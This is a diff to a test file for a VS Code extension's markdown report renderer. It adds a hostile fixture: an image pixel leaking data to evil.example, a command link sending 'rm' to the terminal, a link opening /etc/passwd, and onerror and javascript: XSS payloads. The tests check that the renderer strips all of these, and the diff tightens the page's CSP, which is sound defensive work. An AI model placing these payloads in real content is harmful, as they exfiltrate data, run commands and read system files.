@@ -10,8 +10,18 @@ const MD = [
   '',
 ].join('\n');
 
+/** What indexed code may put into a report: names and paths are anyone's. */
+const HOSTILE = [
+  '# Blast radius of `get_owner_by_id`',
+  '',
+  '- ![pixel](https://evil.example/p.png?leak=1) ![x](data:image/png;base64,AAAA)',
+  '- [run](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22rm%22%7D) and [open](command:ripplegraph.openLocation?%5B%22file%3A%2F%2F%2Fetc%2Fpasswd%22%2C1%5D)',
+  '- [**a** `b`](https://evil.example) [file:///etc/passwd#L0](file:///etc/passwd#L0) <img src=x onerror=alert(1)>',
+  '',
+].join('\n');
+
 describe('report', () => {
-  it('location links become command links; others stay; html is escaped', () => {
+  it('location links become command links; other links are their text; html is escaped', () => {
     const show = encodeURIComponent(JSON.stringify(['file:///ws/petclinic/src/Owner.java', 11]));
     const charge = encodeURIComponent(JSON.stringify(['ripple:/billing/billing/service.py', 3]));
     expect(renderReport(MD)).toBe([
@@ -19,10 +29,30 @@ describe('report', () => {
       '<ul>',
       `<li><a href="command:ripplegraph.openLocation?${show}" title="file:///ws/petclinic/src/Owner.java:11">petclinic/src/Owner.java:11</a> <code>show</code></li>`,
       `<li><a href="command:ripplegraph.openLocation?${charge}" title="ripple:/billing/billing/service.py:3">billing/service.py:3</a> charge_owner</li>`,
-      '<li><a href="https://example.com/docs">docs</a> and [bad](javascript:alert(1)) and &lt;script&gt;alert(1)&lt;/script&gt;</li>',
+      '<li>docs and [bad](javascript:alert(1)) and &lt;script&gt;alert(1)&lt;/script&gt;</li>',
       '</ul>',
       '',
     ].join('\n'));
+  });
+
+  it('no image, no other command, no web link: only the text of what the indexed code wrote', () => {
+    expect(renderReport(HOSTILE)).toBe([
+      '<h1>Blast radius of <code>get_owner_by_id</code></h1>',
+      '<ul>',
+      '<li>pixel x</li>',
+      '<li>run and open</li>',
+      '<li><strong>a</strong> <code>b</code> [file:///etc/passwd#L0](file:///etc/passwd#L0) &lt;img src=x onerror=alert(1)&gt;</li>',
+      '</ul>',
+      '',
+    ].join('\n'));
+    expect(reportLocations(HOSTILE)).toEqual([]);
+  });
+
+  it('paths with spaces, #, unicode and brackets in location links', () => {
+    const uri = 'file:///ws/my%20ws%231%20%C3%BC/pkg/a%20b%23c%20%C3%BC.py';
+    const md = `- [pkg/a b#c ü.py:3](${uri}#L3) and [x](ripple:/my%20repo/x%5Dy.py#L9999)`;
+    expect(reportLocations(md)).toEqual([{ uri, line: 3 }, { uri: 'ripple:/my%20repo/x%5Dy.py', line: 9999 }]);
+    expect(renderReport(md)).toContain(`>pkg/a b#c ü.py:3</a>`);
   });
 
   it('the command href carries [uri, line] and locationArgs reads it back', () => {
@@ -44,16 +74,19 @@ describe('report', () => {
     expect(reportTitle(MD)).toBe('Blast radius of OwnerRepository.findById');
     expect(reportTitle('## [x](file:///a#L1) impact ##\n# second')).toBe('x impact');
     expect(reportTitle('no heading')).toBe('Blast radius');
+    expect(reportTitle('# Blast radius of `target_fn`')).toBe('Blast radius of target_fn');
+    expect(reportTitle('# Blast radius of ``a`b__c``\n')).toBe('Blast radius of a`b__c');
+    expect(reportTitle('#    \n')).toBe('Blast radius');
   });
 
-  it('the page has a strict CSP and no script', () => {
+  it('the page has a strict CSP (no script, image or other resource) and no script', () => {
     const page = reportPage('# A <b>', 'A <b>', 'vscode-webview://abc');
     expect(page).toBe([
       '<!DOCTYPE html>',
       '<html lang="en">',
       '<head>',
       '<meta charset="UTF-8">',
-      `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src vscode-webview://abc 'unsafe-inline'; img-src vscode-webview://abc https: data:;">`,
+      `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src vscode-webview://abc 'unsafe-inline';">`,
       '<meta name="viewport" content="width=device-width, initial-scale=1.0">',
       '<title>A &lt;b&gt;</title>',
       page.split('\n')[7],
